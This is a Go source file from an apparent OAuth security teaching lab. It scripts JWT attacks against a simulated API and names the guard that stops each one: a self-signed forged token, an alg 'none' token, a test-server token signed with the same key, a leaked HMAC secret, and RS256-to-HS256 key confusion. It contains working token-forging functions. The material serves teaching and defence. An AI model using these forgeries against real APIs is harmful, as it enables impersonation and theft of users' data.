package attack

import (
	"context"
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/google/uuid"

	"oauthlab/app/client"
	"oauthlab/lessons/event"
	"oauthlab/lessons/guard"
	"oauthlab/server/authserver"
	"oauthlab/server/lab"
)

// readsTokens is a lab in which the API reads tokens by itself: only then is what a token
// says of itself believed.
func readsTokens() map[guard.ID]string {
	return map[guard.ID]string{guard.IDTokenFormat: guard.JWT, guard.IDTokenCheck: guard.BySignature}
}

// forgedToken: Mallory writes a token, and signs it with what she has (RFC 7515 §5.2).
func forgedToken() Attack {
	return Attack{
		ID:      "forged-token",
		Title:   "A token that Mallory wrote",
		Story:   "The API reads tokens by itself. Mallory writes one that says Alice, and signs it with a key of her own.",
		Chapter: "v06", Given: readsTokens(), StoppedBy: []guard.ID{guard.IDJWTSignature},
		Loss:     "Mallory has read Alice's photos and notes.",
		Sections: []string{"RFC 9068 §4", "RFC 8725 §3.3"},
		Run: func(ctx context.Context, s *Scene) error {
			token, err := s.signAsMallory(ctx, s.claimsOfAlice())
			if err != nil {
				return err
			}
			return s.use(ctx, token)
		},
		Harm: malloryRead("alice", things),
	}
}

// algNone: the token says of itself that it is not signed (RFC 8725 §2.1).
func algNone() Attack {
	return Attack{
		ID:      "alg-none",
		Title:   "A token without a signature",
		Story:   "Mallory writes a token that says Alice, and that it is signed with none. An API that asks the token how to check it finds nothing to check.",
		Chapter: "v06", Given: readsTokens(), StoppedBy: []guard.ID{guard.IDJWTAlg},
		Loss:     "Mallory has read Alice's photos and notes.",
		Sections: []string{"RFC 8725 §2.1", "RFC 8725 §3.1"},
		Run: func(ctx context.Context, s *Scene) error {
			return s.use(ctx, forge("none", "", s.claimsOfAlice(), nil))
		},
		Harm: malloryRead("alice", things),
	}
}

// testServerToken: another server of the same company was set up with a copy of the
// configuration, and so with the same key (RFC 8725 §3.8).
func testServerToken() Attack {
	return Attack{
		ID:      "test-server-token",
		Title:   "A token of the test server",
		Story:   "The company's test server was set up with a copy of the same key. Anybody may sign up there, and Mallory signs up as alice. Its token goes to the real API.",
		Chapter: "v06", Given: readsTokens(), StoppedBy: []guard.ID{guard.IDIssuer},
		Loss:     "Mallory has read Alice's photos and notes.",
		Sections: []string{"RFC 8725 §3.8", "RFC 9068 §4"},
		Run: func(ctx context.Context, s *Scene) error {
			claims := s.claimsOfAlice()
			claims.Issuer = "https://test.example.com"
			token, err := s.signAsServer(ctx, claims, "")
			if err != nil {
				return err
			}
			if err := s.leakFields(ctx, event.Outside, "the test server gives its user alice a token", event.Field{Name: "access_token", Value: token}); err != nil {
				return err
			}
			return s.use(ctx, token)
		},
		Harm: malloryRead("alice", things),
	}
}

// apiForges: who verifies with a shared secret can sign with it (RFC 8725 §3.5 asks that keys
// are handled with care; only keys with a public half end it).
func apiForges() Attack {
	return Attack{
		ID:       "api-forges",
		Title:    "The API makes a token",
		Story:    "The API verifies tokens with the secret that signs them. Mallory gets to see its configuration, and writes herself a token for Alice.",
		Chapter:  "v06",
		Given:    readsTokens(),
		EndedBy:  guard.JWKS,
		Loss:     "Mallory has read Alice's photos and notes.",
		Sections: []string{"RFC 9068 §2.1", "RFC 9068 §4"},
		Run: func(ctx context.Context, s *Scene) error {
			if s.Lab.Settings.Rules().Offers(guard.JWKS) { // there is no such secret any more
				return s.usePublicKey(ctx)
			}
			if err := s.leakFields(ctx, event.API, "the API's configuration has the secret that it shares with the auth server",
				event.Field{Name: "shared_secret", Value: base64.RawURLEncoding.EncodeToString(s.apiKey.Signing(s.Lab.ID))}); err != nil {
				return err
			}
			return s.use(ctx, forge(guard.HS256, "", s.claimsOfAlice(), s.apiKey.Signing(s.Lab.ID)))
		},
		Harm: malloryRead("alice", things),
	}
}

// claimsOfAlice are those of a token that the server would give Alice's client.
func (s *Scene) claimsOfAlice() authserver.AccessTokenClaims {
	now := s.Lab.Now()
	return authserver.AccessTokenClaims{
		Issuer: s.Lab.Issuer(), Expires: now.Add(time.Hour).Unix(), Audience: authserver.Audiences{s.Lab.API()}, Subject: "alice",
		ClientID: authserver.ClientDemo, Issued: now.Unix(), ID: "." + uuid.NewString(), Scope: "read write profile",
	}
}

// signAsMallory signs with a key of Mallory's own, in the name of the server's: with a secret that
// she has made up, or, where the server publishes its keys, with her key and the name of one of
// those.
func (s *Scene) signAsMallory(ctx context.Context, claims authserver.AccessTokenClaims) (string, error) {
	if !s.Lab.Settings.Rules().Offers(guard.JWKS) {
		return forge(guard.HS256, "", claims, []byte("a key that Mallory has made up, 32")), nil
	}
	key, err := s.published(ctx, guard.ES256)
	if err != nil {
		return "", err
	}
	return forgeWith(s.hers.Of(s.Lab.ID), key.KeyID, claims)
}

// signAsServer signs with the server's own key: kid names one that it had, "" is the one that it
// has. Somebody has a copy.
func (s *Scene) signAsServer(ctx context.Context, claims authserver.AccessTokenClaims, kid string) (string, error) {
	if !s.Lab.Settings.Rules().Offers(guard.JWKS) {
		return forge(guard.HS256, "", claims, s.apiKey.Signing(s.Lab.ID)), nil
	}
	return s.keys.SignAccessToken(ctx, s.Lab.ID, s.Lab.Now(), kid, claims)
}

// usePublicKey has Mallory take the server's public key for a secret (RFC 8725 §2.1).
func (s *Scene) usePublicKey(ctx context.Context) error {
	if !s.Lab.Settings.Rules().Offers(guard.JWKS) {
		return nil // there is none yet
	}
	key, err := s.published(ctx, guard.RS256)
	if err != nil {
		return err
	}
	public, err := lab.PublicPEM(key.Key)
	if err != nil {
		return err
	}
	return s.use(ctx, forge(guard.HS256, key.KeyID, s.claimsOfAlice(), public))
}

// published returns a key of the server's, which it tells everybody who asks.
func (s *Scene) published(ctx context.Context, algorithm string) (jose.JSONWebKey, error) {
	answer, err := s.send(ctx, client.Request{Method: http.MethodGet, URL: s.Lab.Issuer() + "/jwks"})
	if err != nil {
		return jose.JSONWebKey{}, err
	}
	var set jose.JSONWebKeySet
	if err := json.Unmarshal([]byte(answer.Body), &set); err != nil {
		return jose.JSONWebKey{}, fmt.Errorf("read the keys: %w", err)
	}
	for _, key := range slices.Backward(set.Keys) { // the newest signs
		if key.Algorithm == algorithm {
			return key, nil
		}
	}
	return jose.JSONWebKey{}, fmt.Errorf("there is no key for %s", algorithm)
}

// forgeWith writes an access token with whatever key, in the name of another.
func forgeWith(key *ecdsa.PrivateKey, kid string, claims authserver.AccessTokenClaims) (string, error) {
	signer, err := jose.NewSigner(jose.SigningKey{Algorithm: jose.ES256, Key: key}, (&jose.SignerOptions{}).WithType("at+jwt").WithHeader("kid", kid))
	if err != nil {
		return "", fmt.Errorf("forge a token: %w", err)
	}
	payload, err := json.Marshal(claims)
	if err != nil {
		return "", fmt.Errorf("forge a token: %w", err)
	}
	signed, err := signer.Sign(payload)
	if err != nil {
		return "", fmt.Errorf("forge a token: %w", err)
	}
	return signed.CompactSerialize()
}

// forge writes a JWT in its compact form (RFC 7515 §7.1), with whatever header: a library
// would not. Without a key it has no signature.
func forge(alg, kid string, claims authserver.AccessTokenClaims, key []byte) string {
	part := func(of any) string {
		text, _ := json.Marshal(of) //nolint:errchkjson // strings and numbers
		return base64.RawURLEncoding.EncodeToString(text)
	}
	header := map[string]string{"typ": "at+jwt", "alg": alg}
	if kid != "" {
		header["kid"] = kid
	}
	token := part(header) + "." + part(claims)
	if key == nil {
		return token + "."
	}
	h := hmac.New(sha256.New, key)
	h.Write([]byte(token))
	return strings.Join([]string{token, base64.RawURLEncoding.EncodeToString(h.Sum(nil))}, ".")
}
